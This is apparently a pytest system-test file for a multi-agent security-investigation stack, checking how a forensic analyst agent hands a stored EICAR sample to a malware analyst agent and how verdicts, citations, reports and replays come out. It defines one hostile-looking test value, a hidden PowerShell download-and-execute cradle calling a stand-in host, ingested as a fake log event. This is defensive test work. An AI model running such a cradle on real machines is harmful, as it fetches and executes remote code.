"""Agents that ask agents on a whole stack: the forensic analyst meets a stored file and asks the malware analyst.

The malware analyst is a process of its own here, that is started and ended like any other instance of an agent.
"""

from __future__ import annotations

import hashlib
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest
import pytest_asyncio

from cli import session
from cli.paging import every
from cli.session import Session
from deploy.local.layout import DataFolder
from deploy.local.nats_server import user_secret
from shared.clock import new_id, utc_now
from shared.config import child_environment
from shared.contracts.alerts import CREATE_ALERT, AlertCreate, AlertEvidence
from shared.contracts.fleet import LIST_AGENTS, LIST_TOOL_CALLS, ToolCall, ToolCallQuery
from shared.contracts.investigations import DISPATCH, Citation, DispatchRequest, Investigation
from shared.contracts.logs import INGEST_LOGS, SEARCH_LOGS, IngestQuery, LogEvent, LogQuery
from shared.contracts.replays import REPLAY_INVESTIGATION
from shared.contracts.samples import STORE_SAMPLE
from shared.contracts.timelines import BUILD_TIMELINE
from shared.contracts.wire import format_time
from tests.gateway import process
from tests.stack import Stack, data_folder, running_stack
from tests.system.reduced_up import WITHOUT
from tests.system.waiting import found, verdict_on
from tests.unit.agents.small_programmes import EICAR

ANALYST = "malware_analyst"
REDUCED = (sys.executable, str(Path(__file__).with_name("reduced_up.py")))
CRADLE = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.77/a')"


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    """One stack for all tests of this file, without the malware analyst."""
    environment = {WITHOUT: ANALYST, "PYTHONPATH": str(Path(__file__).parents[2])}
    with data_folder() as folder, running_stack(folder, command=REDUCED, **environment) as running:
        yield running


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def api(stack: Stack) -> AsyncIterator[Session]:
    """The admin, signed in."""
    async with session.opened(session.find(stack.data_dir, None)) as opened:
        yield opened


@asynccontextmanager
async def malware_analyst(stack: Stack, api: Session, log: Path) -> AsyncIterator[None]:
    """The malware analyst, up for as long as the block lasts."""
    folder = DataFolder(stack.data_dir)
    environment = {
        "AURORA_AGENT_URLS": f'{{"{ANALYST}": "ws://127.0.0.1:0"}}',
        "AURORA_HTTP_PORT": "0",
        "AURORA_IDENTITY_KEY_FILE": str(folder.secrets / "agents.key"),
        "AURORA_IDENTITY_JWKS_FILE": str(folder.secrets / "identity.jwks"),
        "AURORA_NATS_URL": stack.runtime.nats.url,
        "AURORA_NATS_USER": "agents",
        "AURORA_NATS_PASSWORD_FILE": str(folder.password_file(user_secret("agents"))),
        "AURORA_SIEM_URL": str(stack.runtime.services["siem"].url),
    }
    async with process(child_environment(environment), log, "agents"):
        await _until(api, "up")
        yield
    await _until(api, "down")


async def _until(api: Session, status: str) -> None:
    async def ask() -> bool | None:
        listed = {agent.id: agent.status for agent in (await api.call(LIST_AGENTS)).items}
        return True if listed[ANALYST] == status else None

    await found(ask, f"{ANALYST} to be {status}")


class Case:
    """A host on which a file was run whose bytes are stored, and a little later a command that raises an alert."""

    def __init__(self, api: Session) -> None:
        self.api = api
        self.mark = new_id()
        self.host = f"ws-{self.mark[-12:]}"
        self.data = EICAR + self.mark.encode()
        self.sha256 = hashlib.sha256(self.data).hexdigest()
        self.start = utc_now() - timedelta(minutes=8)

    async def happens(self) -> None:
        await self.api.call(STORE_SAMPLE, body=self.data)
        await self._runs(0, rf"C:\Users\Public\{self.mark}.exe", Hashes=f"SHA256={self.sha256.upper()}")
        await self._runs(3, CRADLE)

    async def _runs(self, minute: float, command: str, **data: Any) -> None:
        at: datetime = self.start + timedelta(minutes=minute)
        record = {
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Hostname": self.host,
            "@timestamp": at.isoformat(),
            "ProcessGuid": f"{{{new_id()}}}",
            "ProcessId": 4242,
            "User": "CORP\\ada",
            "Image": command if data else r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "CommandLine": command,
            **data,
        }
        headers = {"Content-Type": "application/json"}
        query = IngestQuery(source=f"test-{self.mark}")
        await self.api.call(INGEST_LOGS, query=query, body=msgspec.json.encode(record), headers=headers)

    async def investigated(self, q: str = "DownloadString") -> Investigation:
        """The end of the investigation of an alert that points at these events of the host."""

        async def stored() -> list[LogEvent] | None:
            query = LogQuery(q=f"host.name:{self.host} {q}", limit=3)
            return (await self.api.call(SEARCH_LOGS, query=query)).items or None

        seen = await found(stored, f"events of {self.host}")
        evidence = [AlertEvidence(log_id=item.id, timestamp=item.timestamp, message=item.message) for item in seen]
        body = AlertCreate(
            title=f"A rule of {self.mark}", severity="high", evidence=evidence, entities={"host": self.host}
        )
        return await verdict_on(self.api, (await self.api.call(CREATE_ALERT, body=body)).id)

    async def is_replayed(self, investigation: Investigation) -> None:
        again = await self.api.call(REPLAY_INVESTIGATION, path={"investigation_id": investigation.id})
        assert {step.agent: step.difference for step in again.steps if step.difference} == {}
        assert (again.identical, again.replayed_verdict) == (True, investigation.verdict)


def questions(investigation: Investigation) -> list[Citation]:
    """What the malware analyst was asked by others, as the verdict carries it."""
    return [item for item in investigation.citations if item.tool == "hand_off" and item.arguments["agent"] == ANALYST]


async def calls(api: Session, agent: str, **query: Any) -> list[ToolCall]:
    return await every(api, LIST_TOOL_CALLS, ToolCallQuery(**query), path={"agent_id": agent})


async def test_a_stored_file_on_the_host_is_asked_about_cited_reported_and_replayed(
    stack: Stack, api: Session, tmp_path: Path
) -> None:
    case = Case(api)
    async with malware_analyst(stack, api, tmp_path / "analyst.log"):
        await case.happens()
        ended = await case.investigated()
        [question] = questions(ended)
        assert (question.agent, question.arguments["params"]) == ("forensic_analyst", {"sha256": case.sha256})
        [finding] = [item for item in ended.findings if question.id in item.citations]
        assert "EICAR" in finding.claim
        tools = {item.id: (item.agent, item.tool) for item in ended.citations}
        assert {tools[name] for name in finding.citations} == {
            ("forensic_analyst", "hand_off"),
            (ANALYST, "sample_triage"),
        }
        assert ended.verdict == "malicious"
        # The planner found no reason to ask it about the same again.
        assert ANALYST not in {step.agent for step in ended.steps}
        assert ended.report is not None
        said = [
            item for section in ended.report.sections for item in section.sentences if question.id in item.citations
        ]
        assert any("EICAR" in sentence.text for sentence in said)
        await _is_told(api, question)
        await case.is_replayed(ended)


async def _is_told(api: Session, question: Citation) -> None:
    """The handoff can be followed: from the call of the one that asked to the calls of the one that was asked."""

    async def told() -> ToolCall | None:
        listed = await calls(api, "forensic_analyst", id=question.id)
        return next((call for call in listed if call.handed_on is not None), None)

    call = await found(told, "the handoff among the tool calls")
    handed_on = call.handed_on
    assert handed_on is not None
    assert (handed_on.to, handed_on.hops, handed_on.path) == (ANALYST, 1, ["forensic_analyst"])
    assert handed_on.handoff_id.startswith(f"{call.handoff_id}~")
    assert handed_on.traceparent

    async def asked() -> list[ToolCall] | None:
        return await calls(api, ANALYST, handoff_id=handed_on.handoff_id) or None

    [triage] = await found(asked, "the calls of the handoff")
    assert (triage.tool, triage.caller, triage.investigation_id) == (
        ("sample_triage", "service:agents", call.investigation_id)
    )


async def test_a_file_that_the_alert_itself_names_is_looked_at_once(stack: Stack, api: Session, tmp_path: Path) -> None:
    case = Case(api)
    async with malware_analyst(stack, api, tmp_path / "analyst.log"):
        await case.happens()
        ended = await case.investigated(q="event.category:process")
        assert [step.status for step in ended.steps if step.agent == ANALYST] == ["completed"]
        assert questions(ended) == []
        carried = [item for item in ended.citations if item.tool == "sample_triage"]
        assert [item.agent for item in carried] == [ANALYST]
        await case.is_replayed(ended)


async def test_a_method_that_the_orchestrator_itself_never_calls_can_be_dispatched(api: Session) -> None:
    until = utc_now()
    span = {"since": format_time(until - timedelta(hours=1)), "until": format_time(until)}
    params = {"hosts": [f"ws-{new_id()}"], **span}
    request = DispatchRequest(agent="forensic_analyst", method=BUILD_TIMELINE.name, params=params)
    record = await api.call(DISPATCH, body=request)
    assert (record.status, record.result["complete"], record.result["refused"]) == ("completed", True, [])
    assert [citation["tool"] for citation in record.result["citations"]] == ["timeline"]


async def test_without_the_malware_analyst_there_is_a_verdict_that_says_so(api: Session) -> None:
    case = Case(api)
    await case.happens()
    ended = await case.investigated()
    assert ended.verdict in ("malicious", "suspicious")
    [note] = [note for note in ended.not_checked if note.startswith(f"{ANALYST} did not answer")]
    assert case.sha256[:16] in note
    assert questions(ended) == []
    assert ended.report is not None
    said = [sentence.text for section in ended.report.sections for sentence in section.sentences]
    assert any(f"{ANALYST} did not answer" in text for text in said)
    await case.is_replayed(ended)
